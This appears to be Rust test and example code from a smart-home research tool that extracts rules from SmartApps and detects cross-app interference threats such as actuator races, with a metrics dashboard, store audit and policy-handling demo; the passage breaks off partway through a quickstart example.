fn eval(f: &Formula, w: &std::collections::BTreeMap<VarId, Value>) -> bool {
    match f.substitute(&|v| w.get(v).cloned()) {
        Formula::True => true,
        Formula::False => false,
        other => panic!("non-ground formula after substitution: {other}"),
    }
}

/// Soundness: any witness the solver returns actually satisfies the
/// formula.
#[test]
fn solver_witness_satisfies_formula() {
    for seed in 0..CASES {
        let f = formula(&mut Gen::new(seed));
        let model = declared_model();
        if let Outcome::Sat(witness) = model.solve(&f) {
            assert!(eval(&f, &witness), "witness {witness:?} fails {f}");
        }
    }
}

/// Completeness on point checks: if we construct a satisfying point, the
/// solver must not report Unsat.
#[test]
fn solver_finds_seeded_solutions() {
    for seed in 0..CASES {
        let mut g = Gen::new(seed ^ 0xbeef);
        let vals: Vec<i64> = (0..3).map(|_| g.range(-90, 90)).collect();
        // Pin each variable to vals[i] via two inequalities, trivially
        // satisfiable.
        let parts: Vec<Formula> = (0..3)
            .map(|i| {
                Formula::and([
                    Formula::cmp(Term::var(var(i)), CmpOp::Ge, Term::num(vals[i] * 100)),
                    Formula::cmp(Term::var(var(i)), CmpOp::Le, Term::num(vals[i] * 100 + 100)),
                ])
            })
            .collect();
        let f = Formula::and(parts);
        let model = declared_model();
        assert!(model.solve(&f).is_sat(), "{f}");
    }
}

/// Negation: f ∧ ¬f is always unsatisfiable for atoms.
#[test]
fn formula_and_negation_unsat() {
    for seed in 0..CASES {
        let f = atom(&mut Gen::new(seed ^ 0xfeed));
        let model = declared_model();
        let both = Formula::and([f.clone(), f.clone().negate()]);
        assert_eq!(model.solve(&both), Outcome::Unsat, "{f}");
    }
}

/// JSON round-trip for rule files built from random formulas.
#[test]
fn rule_json_roundtrip() {
    use hg_rules::rule::*;
    use hg_rules::varid::DeviceRef;
    for seed in 0..CASES {
        let mut g = Gen::new(seed ^ 0x1234);
        let f = formula(&mut g);
        let delay = g.range(0, 10_000) as u64;
        let dev = DeviceRef::bound("0e0b741b");
        let rule = Rule {
            id: RuleId::new("PropApp", 0),
            trigger: Trigger::DeviceEvent {
                subject: dev.clone(),
                attribute: "switch".into(),
                constraint: Some(f.clone()),
            },
            condition: Condition {
                data_constraints: vec![],
                predicate: f,
            },
            actions: vec![Action::device(dev, "on").after(delay)],
        };
        let text = hg_rules::json::rules_to_text(std::slice::from_ref(&rule));
        let back = hg_rules::json::rules_from_text(&text).unwrap();
        assert_eq!(back, vec![rule]);
    }
}

/// The Groovy pretty-printer emits re-parseable source for random
/// expression shapes.
#[test]
fn printer_roundtrip_for_comparisons() {
    for seed in 0..CASES {
        let mut g = Gen::new(seed ^ 0x5678);
        let a = g.range(0, 1000);
        let b = g.range(0, 1000);
        // A short identifier like proptest's "[a-z][a-z0-9]{0,6}".
        let mut c = String::new();
        c.push((b'a' + g.range(0, 26) as u8) as char);
        for _ in 0..g.range(0, 7) {
            let alphabet = b"abcdefghijklmnopqrstuvwxyz0123456789";
            c.push(alphabet[g.range(0, alphabet.len() as i64) as usize] as char);
        }
        let src = format!("def h(evt) {{ if (({c} > {a}) && ({c} <= {b})) {{ lamp.on() }} }}");
        let p1 = hg_lang::parse(&src).unwrap();
        let printed = hg_lang::pretty::print_program(&p1);
        let p2 = hg_lang::parse(&printed).unwrap();
        assert_eq!(hg_lang::pretty::print_program(&p2), printed);
    }
}

/// Scaled fixed-point parsing inverts rendering.
#[test]
fn fixed_point_roundtrip() {
    use hg_capability::domains::{parse_scaled, unscaled_to_string};
    for seed in 0..CASES {
        let n = Gen::new(seed ^ 0x9abc).range(-1_000_000, 1_000_000);
        let text = unscaled_to_string(n);
        assert_eq!(parse_scaled(&text), Some(n));
    }
}

/// Detection is symmetric for the undirected categories: swapping the pair
/// must not change whether an AR/GC/LT is found.
#[test]
fn undirected_detection_symmetry() {
    use hg_detector::{Detector, ThreatKind};
    use hg_symexec::{extract, ExtractorConfig};
    // Extraction dominates runtime; 32 thresholds cover the space well.
    for seed in 0..32 {
        let thr = Gen::new(seed ^ 0xdef0).range(0, 60);
        let a = extract(
            r#"
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { if (location.mode == "Home") { w.on() } }
"#,
            "SymA",
            &ExtractorConfig::default(),
        )
        .unwrap();
        let b = extract(
            &format!(
                r#"
input "d", "capability.contactSensor"
input "t", "capability.temperatureMeasurement"
input "w", "capability.switch", title: "window opener"
def installed() {{ subscribe(d, "contact.open", h) }}
def h(evt) {{ if (t.currentTemperature > {thr}) {{ w.off() }} }}
"#
            ),
            "SymB",
            &ExtractorConfig::default(),
        )
        .unwrap();
        let det = Detector::store_wide();
        let (t_ab, _) = det.detect_pair(&a.rules[0], &b.rules[0]);
        let (t_ba, _) = det.detect_pair(&b.rules[0], &a.rules[0]);
        for kind in [
            ThreatKind::ActuatorRace,
            ThreatKind::GoalConflict,
            ThreatKind::LoopTriggering,
        ] {
            assert_eq!(
                t_ab.iter().any(|t| t.kind == kind),
                t_ba.iter().any(|t| t.kind == kind),
                "asymmetry for {kind:?} at thr={thr}"
            );
        }
    }
}
