//! The observability surface end to end: start the `hg-api` frontend
//! with its telemetry hub (the default), drive fleet traffic, then
//! scrape everything a dashboard would — `/metrics` in JSON and
//! Prometheus text, the per-app interference table (paper Fig. 8), the
//! verdict-cache hot-pair leaderboard, the latency histograms, a live
//! `/events/stream` NDJSON tail — and prove the counters reconcile with
//! the traffic and survive a snapshot→restore warm restart.
//!
//! Run with: `cargo run -p homeguard-examples --bin fleet_dashboard`

use hg_api::{ApiServer, ServerConfig, SESSION_HEADER};
use hg_rules::json::Json;
use hg_service::{Fleet, RuleStore};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;

/// One request over a fresh connection; returns (status, raw body).
fn call(
    addr: SocketAddr,
    method: &str,
    path: &str,
    token: Option<&str>,
    body: Option<&Json>,
) -> (u16, String) {
    let payload = body.map(|b| b.to_text()).unwrap_or_default();
    let mut head = format!("{method} {path} HTTP/1.1\r\nhost: fleet\r\nconnection: close\r\n");
    if let Some(token) = token {
        head.push_str(&format!("{SESSION_HEADER}: {token}\r\n"));
    }
    if !payload.is_empty() {
        head.push_str(&format!("content-length: {}\r\n", payload.len()));
    }
    head.push_str("\r\n");
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .write_all(format!("{head}{payload}").as_bytes())
        .expect("write");
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).expect("read");
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("head/body split");
    let text = String::from_utf8_lossy(&raw).into_owned();
    let status: u16 = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .expect("status code");
    (
        status,
        String::from_utf8_lossy(&raw[split + 4..]).into_owned(),
    )
}

fn json(body: &str) -> Json {
    Json::parse(body).expect("JSON body")
}

/// JSON payload lines of a chunked NDJSON body (chunk-size lines are hex,
/// payload lines are objects).
fn ndjson(body: &str) -> Vec<Json> {
    body.lines()
        .filter(|l| l.trim_start().starts_with('{'))
        .filter_map(|l| Json::parse(l).ok())
        .collect()
}

fn main() {
    let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(4).build());
    let server = ApiServer::start(fleet, ServerConfig::default()).expect("bind loopback");
    let addr = server.addr();
    println!("=== fleet dashboard over http://{addr} ===");

    // ---- traffic: installs, one conflict, a fleet-wide rollout ---------
    let (_, body) = call(addr, "POST", "/sessions", None, None);
    let token = json(&body)
        .get("token")
        .and_then(Json::as_str)
        .expect("session token")
        .to_string();
    let mut homes = Vec::new();
    for _ in 0..8 {
        let (_, body) = call(addr, "POST", "/homes", Some(&token), None);
        homes.push(json(&body).get("home").and_then(Json::as_num).unwrap());
    }
    let comfort_tv = hg_corpus::benign_app("ComfortTV").expect("corpus app");
    let cold_defender = hg_corpus::benign_app("ColdDefender").expect("corpus app");
    let install = |name: &str, source: &str, home: i64| {
        call(
            addr,
            "POST",
            &format!("/homes/{home}/install"),
            Some(&token),
            Some(&Json::obj([
                ("source", Json::str(source)),
                ("name", Json::str(name)),
            ])),
        )
    };
    for &home in &homes {
        let (status, _) = install(comfort_tv.name, comfort_tv.source, home);
        assert_eq!(status, 200);
    }
    let (_, dirty) = install(cold_defender.name, cold_defender.source, homes[0]);
    assert_eq!(json(&dirty).get("pending"), Some(&Json::Bool(true)));
    call(
        addr,
        "POST",
        &format!("/homes/{}/confirm", homes[0]),
        Some(&token),
        Some(&Json::obj([("app", Json::str(cold_defender.name))])),
    );
    let v2 = format!("{}\n// v2\n", comfort_tv.source);
    call(
        addr,
        "POST",
        "/fleet/upgrades",
        Some(&token),
        Some(&Json::obj([
            ("source", Json::str(&v2)),
            ("name", Json::str(comfort_tv.name)),
        ])),
    );
    println!(
        "traffic: {} homes, {} clean installs, 1 confirmed conflict, 1 rollout",
        homes.len(),
        homes.len()
    );

    // ---- /metrics: flat JSON, exact after the collector handshake ------
    let (status, body) = call(addr, "GET", "/metrics", None, None);
    assert_eq!(status, 200);
    let metrics = json(&body);
    let counter = |name: &str| {
        metrics
            .get("counters")
            .and_then(|c| c.get(name))
            .and_then(Json::as_num)
            .unwrap_or(0)
    };
    println!("\n--- counters ---");
    for name in [
        "homes_created_total",
        "installs_total",
        "installs_clean_total",
        "installs_dirty_total",
        "threats_total",
        "cache_hits_total",
        "cache_misses_total",
        "sweep_shards_total",
        "events_consumed_total",
    ] {
        println!("  {name:<28} {}", counter(name));
    }
    assert_eq!(counter("homes_created_total"), homes.len() as i64);
    assert!(counter("installs_dirty_total") >= 1, "the conflict counts");
    assert!(counter("threats_total") >= 1);
    assert_eq!(counter("sweep_shards_total"), 4, "one per rollout shard");
    println!("--- gauges ---");
    if let Some(Json::Obj(gauges)) = metrics.get("gauges") {
        for (name, value) in gauges {
            println!("  {name:<28} {}", value.to_text());
        }
    }

    // ---- Prometheus text rendering -------------------------------------
    let (status, prom) = call(addr, "GET", "/metrics?format=prometheus", None, None);
    assert_eq!(status, 200);
    assert!(prom.contains("hg_installs_total"));
    println!(
        "\n--- prometheus ({} lines, first 6) ---",
        prom.lines().count()
    );
    for line in prom.lines().take(6) {
        println!("  {line}");
    }

    // ---- analytics: Fig. 8 interference, hot pairs, latency ------------
    let (_, body) = call(addr, "GET", "/analytics/interference", None, None);
    let rows = json(&body)
        .get("interference")
        .and_then(Json::as_arr)
        .expect("interference rows")
        .to_vec();
    println!("\n--- interference (rate%% · dirty/installs · threats) ---");
    for row in rows.iter().take(5) {
        println!(
            "  {:<16} {:>6.2}%  {}/{}  threats={}",
            row.get("app").and_then(Json::as_str).unwrap_or("?"),
            row.get("rate_pct").and_then(Json::as_num).unwrap_or(0) as f64 / 100.0,
            row.get("dirty").and_then(Json::as_num).unwrap_or(0),
            row.get("installs").and_then(Json::as_num).unwrap_or(0),
            row.get("threats").and_then(Json::as_num).unwrap_or(0),
        );
    }
    assert!(
        rows.iter()
            .any(|r| r.get("app").and_then(Json::as_str) == Some(cold_defender.name)),
        "the conflicting app must appear in the table"
    );

    let (_, body) = call(addr, "GET", "/analytics/hot-pairs?limit=5", None, None);
    let pairs = json(&body)
        .get("hot_pairs")
        .and_then(Json::as_arr)
        .expect("hot pairs")
        .to_vec();
    println!("--- hot pairs ---");
    for pair in &pairs {
        println!(
            "  {}  hits={} entries={} threats={}",
            pair.get("apps")
                .and_then(Json::as_arr)
                .map(|a| a
                    .iter()
                    .filter_map(Json::as_str)
                    .collect::<Vec<_>>()
                    .join(" ↔ "))
                .unwrap_or_default(),
            pair.get("hits").and_then(Json::as_num).unwrap_or(0),
            pair.get("entries").and_then(Json::as_num).unwrap_or(0),
            pair.get("threats").and_then(Json::as_num).unwrap_or(0),
        );
    }

    let (_, body) = call(addr, "GET", "/analytics/latency", None, None);
    let histograms = json(&body);
    let install_count = histograms
        .get("histograms")
        .and_then(|h| h.get("install_micros"))
        .and_then(|h| h.get("count"))
        .and_then(Json::as_num)
        .unwrap_or(0);
    println!("--- latency: install_micros count={install_count} ---");
    assert_eq!(
        install_count,
        counter("installs_total"),
        "every install attempt is timed exactly once"
    );

    // ---- live NDJSON event tail ----------------------------------------
    let (status, body) = call(
        addr,
        "GET",
        "/events/stream?cursor=0&limit=6&max_ms=1000",
        None,
        None,
    );
    assert_eq!(status, 200);
    let lines = ndjson(&body);
    println!("--- event tail (first {} events) ---", lines.len());
    for line in &lines {
        println!("  {}", line.to_text());
    }
    assert_eq!(lines.len(), 6, "the limit bounds the tail");

    // ---- warm restart: aggregates ride the snapshot --------------------
    let (_, snapshot) = call(addr, "GET", "/snapshot", Some(&token), None);
    assert!(
        json(&snapshot)
            .get("payload")
            .and_then(|p| p.get("telemetry"))
            .is_some(),
        "the snapshot carries the telemetry envelope"
    );
    let installs_before = counter("installs_total");
    let (status, _) = call(
        addr,
        "POST",
        "/restore",
        Some(&token),
        Some(&json(&snapshot)),
    );
    assert_eq!(status, 200);
    let (_, body) = call(addr, "GET", "/metrics", None, None);
    let after = json(&body);
    let installs_after = after
        .get("counters")
        .and_then(|c| c.get("installs_total"))
        .and_then(Json::as_num)
        .unwrap_or(0);
    assert!(
        installs_after >= 2 * installs_before,
        "restore absorbs the envelope on top of the live registry \
         ({installs_before} → {installs_after})"
    );
    println!(
        "\nwarm restart: installs_total {installs_before} → {installs_after} \
         (live registry + absorbed envelope)"
    );

    server.shutdown();
    println!("=== dashboard audit complete ===");
}
