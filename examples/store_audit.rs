//! The store-wide audit: reproduces the paper's §VIII-B/§VIII-C numbers —
//! rule-extraction effectiveness over the corpus, the Fig. 8 detection
//! statistics over the device-controlling population, extraction timing and
//! rule-file sizes.
//!
//! Run with: `cargo run --release -p homeguard-examples --bin store_audit`

use hg_corpus::{automation_apps, device_control_apps, Category};
use hg_detector::{DetectStats, DetectionEngine, Detector, Threat, ThreatKind};
use hg_rules::json::rules_to_text;
use hg_rules::rule::ActionSubject;
use hg_rules::varid::DeviceRef;
use hg_symexec::{extract, AppAnalysis, ExtractorConfig};
use std::collections::BTreeMap;
use std::time::Instant;

fn main() {
    extraction_effectiveness();
    let analyses = extract_all();
    fig8_statistics(&analyses);
    fleet_cache_audit();
    timing_and_sizes();
    println!("\nstore_audit: OK");
}

/// The fleet-shared verdict cache on a repeated-install grid: the same
/// store apps rolled out to many homes, where every home after the first
/// re-asks the identical pair questions. The hit rate here is the
/// cross-home redundancy the cache removes — the bench-smoke CI step runs
/// this binary and relies on the assertions below.
fn fleet_cache_audit() {
    use hg_service::{Fleet, HomeId, RuleStore};

    const HOMES: usize = 24;
    const APPS: usize = 6;
    let fleet = Fleet::new(RuleStore::shared());
    let ids: Vec<HomeId> = (0..HOMES).map(|_| fleet.create_home().unwrap()).collect();
    for app in device_control_apps().iter().take(APPS) {
        for (_, result) in fleet
            .install_many(&ids, app.source, app.name, None)
            .unwrap()
        {
            result.expect("grid install");
        }
    }
    let stats = fleet.store().verdict_cache().stats();
    println!("\n=== Fleet verdict cache on a {HOMES}x{APPS} repeated-install grid ===");
    println!("  pair lookups:   {}", stats.hits + stats.misses);
    println!(
        "  hits:           {} ({:.1}% hit rate)",
        stats.hits,
        100.0 * stats.hit_rate()
    );
    println!("  misses:         {}", stats.misses);
    println!("  live entries:   {}", stats.entries);
    assert!(
        stats.hits > 0 && stats.hit_rate() > 0.5,
        "a repeated-install grid must be answered mostly from the cache: {stats:?}"
    );
    // Under parallel install_many two homes can miss the same key
    // concurrently and publish one entry between them, so misses may
    // exceed entries — never the reverse.
    assert!(
        stats.entries <= stats.misses,
        "entries cannot outnumber the misses that published them: {stats:?}"
    );
}

/// §VIII-B rule extraction: stock configuration vs extended.
fn extraction_effectiveness() {
    println!("=== Rule extraction effectiveness (paper: 124/146, then all after fixes) ===");
    let apps = automation_apps();
    let stock = ExtractorConfig::default();
    let extended = ExtractorConfig::extended();
    let mut stock_ok = 0;
    let mut extended_ok = 0;
    let mut failures = Vec::new();
    for app in &apps {
        if extract(app.source, app.name, &stock).is_ok() {
            stock_ok += 1;
        } else {
            failures.push(app.name);
        }
        if extract(app.source, app.name, &extended).is_ok() {
            extended_ok += 1;
        }
    }
    println!("  corpus automation apps:        {}", apps.len());
    println!("  extracted (stock config):      {stock_ok}/{}", apps.len());
    println!("  special cases needing fixes:   {failures:?}");
    println!(
        "  extracted (extended config):   {extended_ok}/{}",
        apps.len()
    );
    assert_eq!(extended_ok, apps.len());
}

fn extract_all() -> Vec<AppAnalysis> {
    let config = ExtractorConfig::extended();
    device_control_apps()
        .iter()
        .map(|app| extract(app.source, app.name, &config).expect("extended config extracts all"))
        .collect()
}

/// Which Fig. 8 class an app belongs to: Switch (controls a generic
/// capability.switch), Mode (controls the location mode), Others.
fn fig8_class(analysis: &AppAnalysis) -> &'static str {
    let mut controls_switch = false;
    let mut controls_mode = false;
    for rule in &analysis.rules {
        for action in rule.actuations() {
            match &action.subject {
                ActionSubject::LocationMode => controls_mode = true,
                ActionSubject::Device(DeviceRef::Unbound { capability, .. })
                    if capability == "switch" =>
                {
                    controls_switch = true;
                }
                _ => {}
            }
        }
    }
    if controls_mode {
        "Mode"
    } else if controls_switch {
        "Switch"
    } else {
        "Others"
    }
}

/// Fig. 8: pairwise detection over the device-controlling population,
/// threats per category per app class — run *incrementally*: each app is
/// checked against the population installed so far through the candidate
/// index, exactly as a store-wide audit on the live system would run.
fn fig8_statistics(analyses: &[AppAnalysis]) {
    println!(
        "\n=== Fig. 8: CAI detection statistics over {} device-controlling apps ===",
        analyses.len()
    );
    let classes: BTreeMap<&str, &'static str> = analyses
        .iter()
        .map(|a| (a.name.as_str(), fig8_class(a)))
        .collect();

    // apps-involved counters: per (class, threat kind) count distinct apps.
    let mut involved: BTreeMap<(&'static str, ThreatKind), std::collections::BTreeSet<&str>> =
        BTreeMap::new();
    let mut totals: BTreeMap<ThreatKind, usize> = BTreeMap::new();
    let started = Instant::now();
    let mut engine = DetectionEngine::new(Detector::store_wide());
    let mut stats = DetectStats::default();
    for analysis in analyses {
        let (threats, s) = engine.check(&analysis.rules);
        stats.absorb(s);
        for t in &threats {
            if t.source.app == t.target.app {
                continue; // intra-app pairs excluded from the store audit
            }
            *totals.entry(t.kind).or_default() += 1;
            record(&mut involved, &classes, t);
        }
        engine.install_rules(&analysis.rules);
    }
    let elapsed = started.elapsed();

    // The candidate-index effort summary: every pruned pair would have cost
    // at least one merged-situation solve in a filterless detector, so the
    // pruning rate is the index's solver-invocation saving — the claim the
    // `store_audit` bench guards, surfaced here on stdout.
    let total_pairs = stats.pairs + stats.pruned;
    println!("  candidate-index effort (DetectStats):");
    println!("    rule pairs total:     {total_pairs}");
    println!(
        "    pairs visited:        {} ({} survived kind filters)",
        stats.pairs, stats.candidates
    );
    println!(
        "    pairs pruned:         {} ({:.1}% of all pairs, in {elapsed:.2?})",
        stats.pruned,
        100.0 * stats.pruned as f64 / total_pairs.max(1) as f64
    );
    println!(
        "    solver invocations:   {} ({} reused across threat kinds)",
        stats.solves, stats.reused
    );
    assert!(
        stats.pruned >= total_pairs / 2,
        "the index should prune at least half of all pairs: {stats:?}"
    );
    println!("  threat instances per category:");
    for kind in ThreatKind::ALL {
        println!(
            "    {:>2}: {}",
            kind.acronym(),
            totals.get(&kind).copied().unwrap_or(0)
        );
    }
    println!("  apps involved per class (Fig. 8 series):");
    println!("    class    AR  GC  CT  SD  LT  EC  DC");
    for class in ["Switch", "Mode", "Others"] {
        print!("    {class:<8}");
        for kind in ThreatKind::ALL {
            let n = involved.get(&(class, kind)).map(|s| s.len()).unwrap_or(0);
            print!("{n:>4}");
        }
        println!();
    }
    // Shape assertions (paper: switch/mode apps tend to involve all kinds).
    let total: usize = totals.values().sum();
    assert!(
        total > 20,
        "a store of interacting apps must surface many threats"
    );
    assert!(totals.get(&ThreatKind::ActuatorRace).copied().unwrap_or(0) > 0);
    assert!(
        totals
            .get(&ThreatKind::CovertTriggering)
            .copied()
            .unwrap_or(0)
            > 0
    );
}

fn record<'a>(
    involved: &mut BTreeMap<(&'static str, ThreatKind), std::collections::BTreeSet<&'a str>>,
    classes: &BTreeMap<&'a str, &'static str>,
    threat: &Threat,
) {
    for app in [threat.source.app.as_str(), threat.target.app.as_str()] {
        let Some((app, class)) = classes.get_key_value(app) else {
            continue;
        };
        involved
            .entry((*class, threat.kind))
            .or_default()
            .insert(*app);
    }
}

/// §VIII-C: average extraction time and rule-file size per app.
fn timing_and_sizes() {
    println!("\n=== §VIII-C efficiency: extraction time and rule-file size ===");
    let apps = automation_apps();
    let config = ExtractorConfig::extended();
    let runs = 10;
    let started = Instant::now();
    for _ in 0..runs {
        for app in &apps {
            let _ = extract(app.source, app.name, &config);
        }
    }
    let per_app = started.elapsed() / (runs * apps.len() as u32);

    let mut total_bytes = 0usize;
    let mut counted = 0usize;
    for app in &apps {
        if let Ok(analysis) = extract(app.source, app.name, &config) {
            total_bytes += rules_to_text(&analysis.rules).len();
            counted += 1;
        }
    }
    println!("  avg extraction time per app:  {per_app:?} (paper: 1341 ms on a 2016 desktop JVM)");
    println!(
        "  avg rule-file size per app:   {} bytes over {counted} apps (paper: ~6.2 KB)",
        total_bytes / counted.max(1)
    );
    // Apps excluded from Fig. 8: notification-only.
    let notif = automation_apps()
        .iter()
        .filter(|a| a.category == Category::NotificationOnly)
        .count();
    println!("  notification-only apps excluded from Fig. 8: {notif}");
}
