//! Table III: running the rule extractor over the 18 malicious SmartApps
//! from the literature, reporting the "Can handle?" verdict per attack
//! class.
//!
//! Run with: `cargo run -p homeguard-examples --bin malicious_scan`

use hg_corpus::{AttackClass, MALICIOUS_APPS};
use homeguard_core::RuleStore;
use std::collections::BTreeMap;

fn main() {
    println!("=== Table III: extracting rules from malicious apps ===");
    println!("{:<44} {:<20} Can handle?", "App", "Attack");
    // The extractor-service view: malicious apps are ingested into the rule
    // database like any store submission — what the extractor reveals is
    // what every home's install-time check will see.
    let store = RuleStore::new();
    let mut per_class: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    for app in MALICIOUS_APPS {
        let analysis = store
            .ingest(app.source, app.name)
            .unwrap_or_else(|e| panic!("{} failed to even parse: {e}", app.name));
        // "Handled" = static extraction reveals the complete automation:
        // web-service endpoint apps hide their automation behind HTTP
        // handlers, and app-update attacks swap code after review.
        let handled = match app.attack {
            AttackClass::EndpointAttack => false,
            AttackClass::AppUpdate => false,
            _ => !analysis.rules.is_empty(),
        };
        let expected = app.attack.statically_handled();
        assert_eq!(
            handled, expected,
            "{}: verdict diverges from Table III",
            app.name
        );
        let entry = per_class.entry(app.attack.description()).or_default();
        entry.0 += handled as usize;
        entry.1 += 1;
        println!(
            "{:<44} {:<20} {}",
            app.name,
            format!("{:?}", app.attack),
            if handled { "yes" } else { "NO (by design)" }
        );
        if handled {
            // Show what the extractor saw — the hidden logic is laid bare.
            for rule in &analysis.rules {
                for action in rule.actuations() {
                    println!("    reveals: {action}");
                }
            }
        }
    }
    println!("\nper attack class (handled/total):");
    for (class, (ok, total)) in &per_class {
        println!("  {ok}/{total}  {class}");
    }
    // 8 of 10 classes handled, like the paper.
    let handled_classes = per_class.values().filter(|(ok, _)| *ok > 0).count();
    assert_eq!(handled_classes, 8);
    println!("\nmalicious_scan: OK");
}
