//! Threat *handling* (paper §IX) on the Fig. 3 Actuator Race.
//!
//! Two apps subscribe to the same door contact and issue contradictory
//! commands to the same window opener. Without mediation the race's final
//! state depends on the event schedule — the paper's Fig. 3 observation
//! ("turned on only, turned off only, on then off, off then on"). With the
//! session's enforcer inline and an `AR -> Priority` handling policy, the
//! user-ranked rule wins every schedule: the outcome is deterministic.
//!
//! Run with: `cargo run -p homeguard-examples --bin handling_demo`

use hg_capability::device_kind::DeviceKind;
use hg_detector::{ThreatKind, Unification};
use hg_rules::rule::RuleId;
use hg_rules::value::Value;
use hg_service::{Fleet, PolicyTable, RuleStore};
use hg_sim::Device;
use homeguard_core::Home as Session;
use std::collections::BTreeMap;

const VENT_ON_ENTRY: &str = r#"
definition(name: "VentOnEntry")
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { w.on() }
"#;

const RAIN_GUARD: &str = r#"
definition(name: "RainGuard")
input "d", "capability.contactSensor"
input "w", "capability.switch", title: "window opener"
def installed() { subscribe(d, "contact.open", h) }
def h(evt) { w.off() }
"#;

const DOOR: &str = "type:contactSensor/unknown";
const WINDOW: &str = "type:switch/windowOpener";

fn sim_home(seed: u64, session: &Session, unify: &Unification) -> hg_sim::Home {
    let mut home = hg_sim::Home::new(seed);
    home.add_device(Device::new(
        DOOR,
        "front door",
        "contactSensor",
        DeviceKind::Unknown,
    ));
    home.add_device(Device::new(
        WINDOW,
        "window opener",
        "switch",
        DeviceKind::WindowOpener,
    ));
    for rule in session.installed_rules() {
        home.install_rule(unify.unify_rule(rule));
    }
    home
}

fn outcomes_over_seeds(
    session: &Session,
    unify: &Unification,
    enforcer: Option<&homeguard_core::SharedEnforcer>,
) -> BTreeMap<String, usize> {
    let mut outcomes: BTreeMap<String, usize> = BTreeMap::new();
    for seed in 0..24 {
        let mut home = sim_home(seed, session, unify);
        if let Some(enforcer) = enforcer {
            enforcer.begin_run();
            home.set_mediator(enforcer.mediator());
        }
        home.stimulate(DOOR, "contact", Value::sym("open"));
        let final_state = home
            .attr(WINDOW, "switch")
            .map(|v| v.to_string())
            .unwrap_or_default();
        *outcomes.entry(final_state).or_default() += 1;
    }
    outcomes
}

fn main() {
    // The user ranks RainGuard (close the window) above VentOnEntry. The
    // session is constructed through the fleet: the handling table rides
    // the home template, and installs go through the service surface.
    let table = PolicyTable::default()
        .prioritize([RuleId::new("RainGuard", 0), RuleId::new("VentOnEntry", 0)]);
    let fleet = Fleet::builder(RuleStore::shared())
        .home_defaults(|home| home.handling_policy(table))
        .build();
    let home = fleet.create_home().unwrap();
    fleet
        .install_app_forced(home, VENT_ON_ENTRY, "VentOnEntry", None)
        .expect("extracts");
    let report = fleet
        .install_app_forced(home, RAIN_GUARD, "RainGuard", None)
        .expect("extracts");
    println!("=== Install-time detection (Fig. 3 Actuator Race) ===");
    for threat in &report.threats {
        println!("  {threat}");
    }
    assert!(report
        .threats
        .iter()
        .any(|t| t.kind == ThreatKind::ActuatorRace));

    let unify = Unification::ByType;

    fleet
        .with_home_mut(home, |session| {
            println!("\n=== Unmediated: the race's final state is schedule-dependent ===");
            let unmediated = outcomes_over_seeds(session, &unify, None);
            for (outcome, count) in &unmediated {
                println!("  {count:>2}x window ends {outcome}");
            }
            assert!(
                unmediated.len() > 1,
                "the unmediated race must be nondeterministic"
            );

            println!("\n=== Mediated (AR -> Priority): RainGuard wins every schedule ===");
            let enforcer = session.enforcer();
            let mediated = outcomes_over_seeds(session, &unify, Some(&enforcer));
            for (outcome, count) in &mediated {
                println!("  {count:>2}x window ends {outcome}");
            }
            assert_eq!(mediated.len(), 1, "mediated outcome must be deterministic");
            assert!(mediated.contains_key("off"), "the ranked winner closes it");

            let journal = enforcer.journal();
            println!("\n=== Decision journal (first 3 of {}) ===", journal.len());
            for decision in journal.entries().iter().take(3) {
                println!("  {decision}");
            }
            let stats = enforcer.stats();
            println!(
                "\nmediation effort: {} events seen, {} mediated, {}ns mean decision latency",
                stats.events,
                stats.mediated,
                stats.mean_latency_ns()
            );
        })
        .expect("home exists");
    println!("\nhandling_demo: OK");
}
