//! §VIII-C configuration-collection latency: instruments ComfortTV, builds
//! the collection URI, and measures simulated SMS vs HTTP delivery over 100
//! trials (paper: 3120 ms SMS, 1058 ms HTTP, 27 ms in-cloud overhead).
//!
//! Run with: `cargo run -p homeguard-examples --bin config_latency`

use hg_config::{instrument, Channel, ConfigInfo, SimulatedChannel, Transport};
use hg_rules::value::Value;

fn main() {
    let app = hg_corpus::benign_app("ComfortTV").expect("corpus app");

    println!("=== Instrumentation (Listing 3) ===");
    let instrumented = instrument(app.source, app.name, Transport::Sms).expect("instrumentation");
    let marker = "collectConfigInfo";
    assert!(instrumented.contains(marker));
    println!(
        "instrumented ComfortTV: {} -> {} bytes (collection code inserted)",
        app.source.len(),
        instrumented.len()
    );

    // The URI the instrumented app would assemble at install time (Fig. 7a).
    let info = ConfigInfo::new("ComfortTV")
        .bind_device("tv1", "0e0b741baf1c4e6d8f0a1b2c3d4e5f60")
        .bind_device("tSensor", "11aa741baf1c4e6d8f0a1b2c3d4e5f61")
        .bind_device("window1", "22bb741baf1c4e6d8f0a1b2c3d4e5f62")
        .set_value("threshold1", Value::from_natural(30));
    let uri = info.to_uri();
    println!("\n=== Collection URI ===\n{uri}");
    let parsed = ConfigInfo::from_uri(&uri).expect("roundtrip");
    assert_eq!(parsed, info);

    println!("\n=== Delivery latency over 100 trials (simulated channels) ===");
    for (channel, paper_ms) in [(Channel::Sms, 3120.0), (Channel::Http, 1058.0)] {
        let mean = SimulatedChannel::new(channel, 2026).mean_over(&uri, 100);
        println!("  {channel:?}: mean {mean:.0} ms   (paper measured {paper_ms:.0} ms)");
    }
    println!(
        "  in-cloud instrumentation overhead: {} ms (paper: 27 ms)",
        hg_config::INSTRUMENTATION_OVERHEAD_MS
    );
    println!("\nconfig_latency: OK");
}
