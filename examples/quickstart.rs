//! Quickstart: extract rules from a SmartApp (reproducing Table II) and
//! detect the Fig. 3 Actuator Race between ComfortTV and ColdDefender.
//!
//! Run with: `cargo run -p homeguard-examples --bin quickstart`

use homeguard_core::{frontend, Home, RuleStore};

fn main() {
    // The rule store is process-wide: one database serves every home.
    let store = RuleStore::shared();
    let mut home = Home::new(store.clone());

    // Paper Listing 1: ComfortTV (Rule 1 of Fig. 3). Clean, so the install
    // confirms automatically.
    let comfort_tv = hg_corpus::benign_app("ComfortTV").expect("corpus app");
    let report = home
        .install_app(comfort_tv.source, comfort_tv.name, None)
